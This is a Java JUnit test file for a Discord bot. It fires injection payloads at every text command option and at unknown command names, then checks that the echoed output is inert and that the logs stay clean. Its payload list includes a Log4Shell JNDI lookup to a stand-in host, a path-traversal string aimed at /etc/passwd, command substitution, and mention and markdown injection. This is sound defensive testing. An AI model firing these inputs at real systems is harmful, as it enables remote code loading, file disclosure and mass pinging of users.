package dev.orchestrator.attack;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import dev.orchestrator.Events;
import dev.orchestrator.command.CommandSpec;
import dev.orchestrator.command.OptionSpec;
import dev.orchestrator.discord.interaction.OptionType;
import dev.orchestrator.discord.markdown.RenderedMarkdown;
import dev.orchestrator.entry.TestServices;
import dev.orchestrator.json.Json;
import dev.orchestrator.local.LocalSystem;
import dev.orchestrator.local.discord.Action;
import dev.orchestrator.local.discord.Caller;
import dev.orchestrator.local.discord.Person;
import dev.orchestrator.local.discord.SentInteraction;
import dev.orchestrator.local.discord.SimulatedServer;
import dev.orchestrator.local.http.RecordedRequest;
import dev.orchestrator.log.Logging;
import java.io.ByteArrayOutputStream;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.Timeout;

/**
 * Every text option of every command, filled with what means something to Discord, to a log or to a
 * table: wherever it comes out again, it is text. A new command is among them by itself.
 */
@Timeout(300)
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class EchoTest {
  private static final Duration PATIENCE = Duration.ofSeconds(20);
  private static final String MARK = "PWNED";
  private static final List<String> PAYLOADS =
      List.of(
          "@everyone PWNED",
          "@here <@1100000000000000301> <@&1100000000000000402> <#1100000000000000201>",
          "**PWNED** __PWNED__ ||PWNED|| ~~PWNED~~ *PWNED*",
          "`` ` ``` PWNED ` **PWNED** @everyone",
          "[PWNED](https://evil.example/PWNED)",
          "https://evil.example/PWNED?x=@everyone",
          "x\n# PWNED\n> PWNED\n- PWNED\n-# trace `1-00000000-000000000000000000000000`",
          "PWNED\r\n{\"level\":\"info\",\"msg\":\"PWNED\"}",
          "\u001b[31mPWNED\u001b[0m\u0007\u009b2K",
          "\u202ePWNED\u2066\u200b",
          "</deploy-client:1> <t:0:R> <:x:1> PWNED",
          "../../../etc/passwd%00 PWNED",
          "USER#1#TRACE#PWNED",
          "PWNED\u0000\ud83d\ude00",
          "${jndi:ldap://evil.example/PWNED} {{PWNED}} %s %n $(PWNED)");

  private final ByteArrayOutputStream log = new ByteArrayOutputStream();
  private LocalSystem system;
  private int people;

  @BeforeAll
  void start() throws Exception {
    system =
        LocalSystem.start(
            Map.of(
                "PORT", "0",
                "ADMIN_ROLE_IDS", SimulatedServer.ADMIN_ROLE_ID,
                "LOG_LEVEL", "debug"),
            log);
  }

  @AfterAll
  void stop() {
    system.close();
  }

  private record Typed(String command, String option) {}

  private static List<Typed> everyTextOption() {
    var typed = new ArrayList<Typed>();
    for (CommandSpec<?> spec : TestServices.inert().router().specs()) {
      add(typed, spec.name(), spec.options());
      spec.subcommands().forEach(sub -> add(typed, spec.name() + " " + sub.name(), sub.options()));
    }
    return typed;
  }

  private static void add(List<Typed> typed, String command, List<OptionSpec<?>> options) {
    options.stream()
        .filter(option -> option.type() == OptionType.STRING)
        .forEach(option -> typed.add(new Typed(command, option.name())));
  }

  @Test
  void whatever_is_typed_comes_out_as_text_and_mentions_nobody() throws Exception {
    var discord = system.discord();
    int sent = 0;
    for (Typed typed : everyTextOption()) {
      for (String payload : PAYLOADS) {
        sent += send(typed, payload);
      }
    }
    assertThat(sent).isGreaterThanOrEqualTo(PAYLOADS.size());
    for (RecordedRequest request : discord.requests()) {
      if (!request.json().text("content").orElse("").isEmpty()) {
        assertHarmless(request.json());
      }
    }
    assertEachLineIsOurs();
  }

  /** 1 if a Discord client would send this, else 0. */
  private int send(Typed typed, String payload) throws InterruptedException {
    SentInteraction sent;
    try {
      sent =
          system
              .discord()
              .interact(
                  new Action.Command(typed.command(), Map.of(typed.option(), payload)),
                  Caller.of(somebodyNew()));
    } catch (IllegalArgumentException noClientWould) {
      return 0;
    }
    assertThat(sent.failure()).as(typed + " " + payload).isEmpty();
    if (sent.answer().get("data").text("content").isPresent()) {
      assertHarmless(sent.answer().get("data"));
    }
    assertThat(sent.awaitState(state -> state.content().contains("-# trace"), PATIENCE))
        .as(typed + " " + payload)
        .isPresent();
    return 1;
  }

  /** An admin who rests from no earlier command. */
  private Person somebodyNew() {
    return new Person(
        Long.toString(4_000_000_000_000_000_000L + people++),
        "x",
        "X",
        List.of(SimulatedServer.ADMIN_ROLE_ID),
        "0");
  }

  private static void assertHarmless(Json message) {
    assertThat(message.get("allowed_mentions").get("parse").toString()).isEqualTo("[]");
    assertThat(message.get("allowed_mentions").get("users").isAbsent()).isTrue();
    assertThat(message.get("allowed_mentions").get("roles").isAbsent()).isTrue();
    String content = message.text("content").orElse("");
    assertThat(content).doesNotContain("\u202e", "\u2066");
    var nodes = RenderedMarkdown.of(content);
    for (int i = 0; i < nodes.size(); i++) {
      assertText(nodes.get(i), true, content);
      boolean begins = i > 0 && nodes.get(i - 1).kind().equals("line");
      assertThat(begins && nodes.get(i).text().startsWith(MARK)).as(content).isFalse();
    }
  }

  /**
   * What was typed stands in plain text or in code, which may itself stand in bold: in other markup
   * it would have made it.
   */
  private static void assertText(RenderedMarkdown.Node node, boolean outermost, String content) {
    switch (node.kind()) {
      case "code", "block" -> {}
      case "text" -> assertThat(!outermost && node.text().contains(MARK)).as(content).isFalse();
      case "bold", "italic", "underline", "strike", "spoiler" ->
          RenderedMarkdown.of(node.text()).forEach(inner -> assertText(inner, false, content));
      case "special" -> assertThat(node.text()).as(content).matches("<t:[1-9][0-9]{9}:R>");
      default -> {
        assertThat(node.kind()).as(content).isNotEqualTo("mention");
        assertThat(node.text()).as(content).doesNotContain(MARK);
      }
    }
  }

  private void assertEachLineIsOurs() {
    Logging.drain();
    for (String line : log.toString(UTF_8).split("\n", -1)) {
      if (!line.isEmpty()) {
        assertThat(Json.tryRead(line).flatMap(json -> json.text("ts"))).as(line).isPresent();
        assertThat(line.codePoints()).noneMatch(Character::isISOControl);
      }
    }
  }

  @Test
  void a_name_that_is_too_long_for_a_command_is_not_shown_in_part() throws Exception {
    try (var target = new Target()) {
      Json answer =
          target.send(
              target
                  .fresh(Events.body("slash-no-options"))
                  .replace("\"name\": \"ping\"", "\"name\": \"" + "q7Zx".repeat(10) + "\"")
                  .signed());
      assertThat(Target.reply(answer).toString())
          .contains("Unknown command.")
          .doesNotContain("q7Zx");
    }
  }

  @Test
  void the_name_of_an_unknown_command_comes_out_as_text() throws Exception {
    try (var target = new Target()) {
      for (String payload : PAYLOADS) {
        String name = Json.text(json -> json.writeString(payload));
        Json answer =
            target.send(
                target
                    .fresh(Events.body("slash-no-options"))
                    .replace("\"name\": \"ping\"", "\"name\": " + name)
                    .signed());
        assertHarmless(Target.reply(answer).get("data"));
      }
    }
  }
}
